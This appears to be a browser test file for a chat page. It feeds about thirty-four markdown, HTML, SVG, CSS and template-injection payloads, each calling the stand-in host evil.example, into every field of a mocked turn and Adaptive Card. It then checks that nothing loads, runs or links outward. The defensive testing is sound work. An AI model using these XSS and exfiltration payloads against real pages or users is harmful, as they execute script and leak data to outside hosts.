// The page itself lets nothing out, whatever a server tells it to show: every construct stands in every place of a turn,
// and the browser's own log of requests is the judge. That servers clean texts first is tested with them.
import { describe, expect, it } from 'vitest'
import { hasBrowser } from './browser.ts'
import { startServer } from './server.ts'
import { setStage } from './stage.ts'

const E = 'evil.example'
const CONSTRUCTS: readonly string[] = [
  `![x](https://${E}/a.png)`,
  `![](<https://${E}/a.png>)`,
  `![x][r]\n\n[r]: https://${E}/a.png`,
  `[click](https://${E}/)`,
  `[click](//${E}/)`,
  `[a](javascript:fetch('https://${E}/'))`,
  `[a](data:text/html,<script>location='https://${E}/'</script>)`,
  `[![i](https://${E}/i.png)](https://${E}/l)`,
  `<https://${E}/>`,
  `https://${E}/ and www.${E}`,
  `<img src="https://${E}/">`,
  `<img src=x onerror=fetch('https://${E}/')>`,
  `<svg><image href="https://${E}/"/></svg>`,
  `<svg onload="location='https://${E}/'">`,
  `<a href="https://${E}/" autofocus onfocus=click()>x</a>`,
  `<iframe src="https://${E}/"></iframe>`,
  `<iframe srcdoc="<script>fetch('https://${E}/')</script>"></iframe>`,
  `<style>body{background:url(https://${E}/)}</style>`,
  `<link rel=stylesheet href=https://${E}/>`,
  `<link rel=prefetch href=https://${E}/><link rel=dns-prefetch href=//${E}>`,
  `<meta http-equiv=refresh content="0;url=https://${E}/">`,
  `<video poster="https://${E}/"><source src="https://${E}/v"></video>`,
  `<object data="https://${E}/"></object><embed src="https://${E}/">`,
  `<script>fetch('https://${E}/')</script>`,
  `<details open ontoggle=fetch('//${E}/')>`,
  `<base href="https://${E}/"><img src="a">`,
  `<form action=https://${E}/><input autofocus onfocus=form.submit()>`,
  `| a |\n|---|\n| ![x](https://${E}/) |`,
  `- ![x](https://${E}/)\n- <img src=https://${E}/>`,
  `\`\`\`html\n<img src=https://${E}/>\n\`\`\``,
  `**![x](https://${E}/)** *<img src=https://${E}/>*`,
  `\${fetch('https://${E}/')} \${$root} {{constructor.constructor('fetch("https://${E}/")')()}}`,
  `\u202e\u2066<img src=https://${E}/>\u200b`,
  `%3Cimg%20src=https://${E}/%3E &lt;img src=https://${E}/&gt;`,
]

/** An Adaptive Card that asks for all that a card can ask for. */
const cardOf = (text: string) => ({
  type: 'AdaptiveCard',
  version: '1.5',
  backgroundImage: `https://${E}/bg.png`,
  fallbackText: text,
  body: [
    { type: 'TextBlock', text, wrap: true },
    { type: 'Image', url: `https://${E}/card.png`, altText: text },
    { type: 'ImageSet', images: [{ type: 'Image', url: `https://${E}/set.png` }] },
    { type: 'Media', poster: `https://${E}/poster.png`, sources: [{ mimeType: 'video/mp4', url: `https://${E}/v` }] },
    { type: 'Container', backgroundImage: { url: `https://${E}/c.png` }, items: [{ type: 'TextBlock', text }] },
    { type: 'FactSet', facts: [{ title: text, value: text }] },
    { type: 'Input.Text', id: 'secret', label: text, isVisible: true },
  ],
  actions: [
    { type: 'Action.OpenUrl', title: text, url: `https://${E}/open` },
    { type: 'Action.OpenUrl', title: text, url: `javascript:fetch('https://${E}/')`, iconUrl: `https://${E}/i.png` },
    { type: 'Action.Submit', title: text, data: { text } },
    { type: 'Action.Execute', verb: text, title: text },
  ],
  selectAction: { type: 'Action.OpenUrl', url: `https://${E}/` },
  refresh: { action: { type: 'Action.Execute', verb: 'x' }, userIds: [] },
})

/** A turn with the construct in each place that shows what somebody else wrote. */
const turnOf = (text: string, n: number) => ({
  id: `t${n}`,
  conversationId: 'c1',
  status: 'waiting',
  createdAt: '2026-03-18T13:30:00Z',
  agentId: null,
  agentName: text,
  prompt: { text, additions: [{ description: text, text }] },
  text: `${text} [^1^]`,
  label: text,
  citations: [
    {
      n: 1,
      kind: 'item',
      title: text,
      subtitle: text,
      url: n % 2 === 0 ? `javascript:fetch('https://${E}/')` : `https://${E}/${n}`,
      host: E,
      from: text,
      iconUrl: `https://${E}/icon.png`,
      isOwnContent: false,
      isGone: false,
    },
  ],
  cards: [{ callId: 'k', title: text, card: cardOf(text) }],
  followUps: [text],
  notices: [text],
  calls: [{ id: 'k', functionName: text, appName: text, skill: text, state: text, problem: text }],
  confirmations: [
    {
      callId: 'k',
      skill: text,
      functionName: text,
      app: { id: text, name: text, privacyUrl: `javascript:fetch('https://${E}/')`, termsUrl: text },
      title: text,
      body: text,
      arguments: { [text]: text, nested: { text } },
      effects: 'destructive',
      reasons: [text],
      derived: [{ argument: text, text, from: text }],
      mayAlwaysAllow: false,
    },
  ],
  error: { code: text, message: text, fix: text },
  ms: 1,
})

describe.runIf(hasBrowser)('the chat page, contract publishing-and-governance 6.7', () => {
  const stage = setStage(startServer)

  it('asks nobody else for anything, runs nothing, and has no link that leads out by itself', async () => {
    const { context, page, complaints } = await stage.enter('light', 1280, 'Alina Petrescu', '/chat')
    const turns = CONSTRUCTS.map(turnOf)
    // Places that show foreign words: prompt, answer, source, card, notice, call, confirmation, error, follow-up and more.
    const places = JSON.stringify(turns[0]).split(JSON.stringify(CONSTRUCTS[0]).slice(1, -1)).length - 1
    expect(CONSTRUCTS.length * places).toBeGreaterThanOrEqual(300)
    const conversation = { id: 'c1', title: CONSTRUCTS[0], agentId: null, state: 'active', runningTurnId: null, turns }
    await page.route('**/api/chat/conversations/c1', (route) => route.fulfill({ json: conversation }))
    const asked: string[] = []
    context.on('request', (request) => asked.push(request.url()))
    const popups: string[] = []
    context.on('page', (opened) => popups.push(opened.url()))
    page.on('dialog', (dialog) => popups.push(dialog.message()))
    await page.goto(`${stage.server.url}/chat/c1`)
    await page
      .getByRole('article')
      .nth(CONSTRUCTS.length - 1)
      .waitFor()
    await page.waitForTimeout(1000)

    expect(asked.filter((url) => !url.startsWith(stage.server.url) && !url.startsWith('data:'))).toEqual([])
    expect(popups).toEqual([])
    expect(complaints).toEqual([])
    expect(page.url()).toBe(`${stage.server.url}/chat/c1`)
    // Nothing that loads or runs has come out of a text; pictures of cards are our own grey squares.
    const thread = page.getByRole('log')
    expect(await thread.locator('script, iframe, object, embed, video, form[action], link, base, meta').count()).toBe(0)
    const sources = await thread
      .locator('img')
      .evaluateAll((images) => images.map((image) => (image as HTMLImageElement).src))
    expect(sources.every((src) => src.startsWith('data:image/'))).toBe(true)
    const links = await thread
      .locator('a[href]')
      .evaluateAll((anchors) => anchors.map((anchor) => [(anchor as HTMLAnchorElement).href, anchor.textContent ?? '']))
    const outward = links.filter(([href = '']) => !href.startsWith(stage.server.url))
    // Whatever leads out asks first, and is no link until then.
    expect(outward).toEqual([])

    for (const name of [`Open at ${E}`, new RegExp(`.+ · ${E}$`)]) {
      await page.getByRole('button', { name }).first().click()
      await page.getByRole('dialog').getByText(E, { exact: true }).waitFor()
      await page.getByRole('button', { name: 'Stay here' }).click()
      await page.getByRole('dialog').waitFor({ state: 'detached' })
    }
    expect(asked.filter((url) => url.includes(E))).toEqual([])
    expect(popups).toEqual([])
    await context.close()
  })
})
